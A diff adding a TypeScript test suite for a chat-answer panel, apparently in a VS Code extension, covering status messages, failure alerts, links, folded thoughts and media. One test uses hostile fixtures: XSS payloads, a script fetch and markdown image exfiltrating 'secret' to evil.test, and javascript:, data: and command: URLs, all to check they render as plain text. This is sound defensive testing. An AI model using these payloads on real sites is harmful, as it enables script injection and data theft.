@@ -1,0 +1,163 @@
+import assert from 'node:assert/strict';
+import type { AnswerPart } from '../../src/protocol';
+import { usePanels } from './panelPage';
+import { fullConversation, turn } from './turns';
+
+const hostile = [
+  '<img src=x onerror=alert(1)>',
+  '<script>fetch("https://evil.test/")</script>',
+  '<link rel=prefetch href="https://evil.test/">',
+  '<iframe src="https://evil.test/"></iframe>',
+  '![x](https://evil.test/?q=secret)',
+  '<div style="background:url(https://evil.test/)">',
+  '[x](javascript:alert(1))',
+].join('\n');
+
+describe('Answers in the panel', function () {
+  this.timeout(20_000);
+  const open = usePanels();
+
+  it('tells the end of an answer in the one status region, and never its text', async () => {
+    const panel = await open();
+    await panel.snapshot();
+    const told: (string | null)[] = [];
+    const listen = async () => told.push(await panel.status.textContent());
+
+    for (const status of ['done', 'stopped', 'failed'] as const) {
+      await panel.tell({ type: 'turnAdded', turn: turn({ id: status, status: 'waiting' }) });
+      await listen();
+      await panel.tell({ type: 'partAdded', turnId: status, part: { kind: 'text', text: 'secret' } });
+      await panel.tell({ type: 'partGrew', turnId: status, part: 0, text: ' more' });
+      await listen();
+      await panel.tell({ type: 'turnChanged', turnId: status, status });
+      await listen();
+    }
+
+    assert.deepEqual(told, ['', '', 'Answer ready', '', '', 'Answer stopped', '', '', 'Answer failed']);
+    assert.equal(await panel.page.locator('[aria-live], [role=log]').count(), 0);
+    assert.equal(await panel.status.count(), 1);
+  });
+
+  it('shows a failure where the answer is, with the button that helps', async () => {
+    const panel = await open();
+    await panel.snapshot();
+    await panel.tell(
+      { type: 'turnAdded', turn: turn({ status: 'streaming', parts: [{ kind: 'text', text: 'So far' }] }) },
+      {
+        type: 'turnChanged',
+        turnId: 't1',
+        status: 'failed',
+        failure: { message: 'The connection was lost. Try again.', action: { id: 'retry', label: 'Retry' } },
+      },
+    );
+    const alert = panel.articles.nth(1).getByRole('alert');
+
+    assert.match((await alert.textContent()) ?? '', /The connection was lost/);
+    assert.equal(await panel.page.getByText('So far').isVisible(), true);
+    await alert.getByRole('button', { name: 'Retry' }).click();
+    assert.deepEqual(await panel.postedOf('actOnFailure'), [{ type: 'actOnFailure', turnId: 't1', action: 'retry' }]);
+  });
+
+  it('reads out an old failure no second time', async () => {
+    const panel = await open();
+    const failed = { status: 'failed', failure: { message: 'It failed.' } } as const;
+
+    await panel.snapshot([turn({ id: 'a', ...failed }), turn({ id: 'b', ...failed })]);
+
+    assert.equal(await panel.page.getByText('It failed.').count(), 2);
+    assert.equal(await panel.page.getByRole('alert').count(), 1);
+  });
+
+  it('opens what went along with a prompt', async () => {
+    const panel = await open();
+    await panel.snapshot(fullConversation);
+
+    await panel.page.getByRole('button', { name: 'README.md' }).click();
+
+    assert.deepEqual(await panel.postedOf('openAttachment'), [
+      { type: 'openAttachment', turnId: 'a', attachmentId: 'f2' },
+    ]);
+  });
+
+  it('leaves links to the host', async () => {
+    const panel = await open();
+    await panel.snapshot(fullConversation);
+    const link = panel.page.getByRole('link', { name: 'Disposable pattern' });
+
+    assert.equal(await link.getAttribute('title'), 'https://code.visualstudio.com/api/references/vscode-api');
+    await panel.page.evaluate(`document.addEventListener('click', () => { hostSide.bubbled = true; })`);
+    await link.click();
+
+    assert.deepEqual(await panel.postedOf('openLink'), [
+      { type: 'openLink', url: 'https://code.visualstudio.com/api/references/vscode-api' },
+    ]);
+    assert.equal(await panel.page.evaluate('hostSide.bubbled'), undefined);
+  });
+
+  it('folds thoughts and tools away, under a name a person understands', async () => {
+    const panel = await open();
+    await panel.snapshot([turn({ status: 'streaming', parts: [{ kind: 'thought', text: 'Let me' }] })]);
+    const summary = panel.page.locator('summary').first();
+
+    assert.equal(await summary.textContent(), 'Thinking');
+    assert.equal(await panel.page.getByText('Let me').isVisible(), false);
+    await panel.tell(
+      { type: 'partGrew', turnId: 't1', part: 0, text: ' see' },
+      { type: 'partAdded', turnId: 't1', part: { kind: 'tool', step: 'google_search_call', text: '{}' } },
+      { type: 'partAdded', turnId: 't1', part: { kind: 'tool', step: 'new_tool_call', text: '{}' } },
+    );
+
+    assert.deepEqual(await panel.page.locator('summary').allTextContents(), [
+      'Thoughts',
+      'Google Search',
+      'new_tool_call',
+    ]);
+    await summary.click();
+    assert.equal(await panel.page.getByText('Let me see').isVisible(), true);
+  });
+
+  it('shows pictures it was given and names whatever else it was given', async () => {
+    const panel = await open();
+    await panel.snapshot(fullConversation);
+
+    const image = panel.page.getByRole('img', { name: 'Image made by Gemini' });
+    assert.match((await image.getAttribute('src')) ?? '', /^data:image\/png;base64,/);
+    assert.equal(await panel.page.getByText('(audio/wav) that cannot be shown').count(), 1);
+    assert.equal(await panel.page.getByText('(video/mp4) that is not loaded').count(), 1);
+  });
+
+  it('shows hostile text as text', async () => {
+    const panel = await open();
+    const parts: AnswerPart[] = [
+      { kind: 'text', text: hostile },
+      { kind: 'thought', text: hostile },
+      { kind: 'tool', step: '<img src=x onerror=alert(1)>', text: hostile },
+      { kind: 'unknown', text: hostile },
+      { kind: 'media', media: 'image', mimeType: 'image/svg+xml', data: 'PHN2Zy8+' },
+      { kind: 'media', media: 'image', mimeType: 'text/html', data: 'PGI+' },
+      { kind: 'media', media: 'image', mimeType: 'image/png', data: '"><script>' },
+      {
+        kind: 'sources',
+        sources: [
+          { title: 'script', url: 'javascript:alert(1)' },
+          { title: 'page', url: 'data:text/html,<script>alert(1)</script>' },
+          { title: 'command', url: 'command:workbench.action.quit' },
+          { title: 'editor', url: 'vscode://x/y' },
+          { title: 'nonsense', url: 'https://' },
+        ],
+      },
+    ];
+
+    await panel.snapshot([
+      turn({ id: '"><img src=x>', prompt: hostile, parts, failure: { message: hostile }, note: hostile }),
+    ]);
+    await panel.tell({ type: 'partGrew', turnId: '"><img src=x>', part: 0, text: hostile });
+    for (const summary of await panel.page.locator('summary').all()) await summary.click();
+
+    assert.equal(await panel.page.getByText('onerror=alert(1)').first().isVisible(), true);
+    assert.equal(
+      await panel.page.locator('#app').locator('a, img, script, iframe, link, style, form, object').count(),
+      0,
+    );
+  });
+});
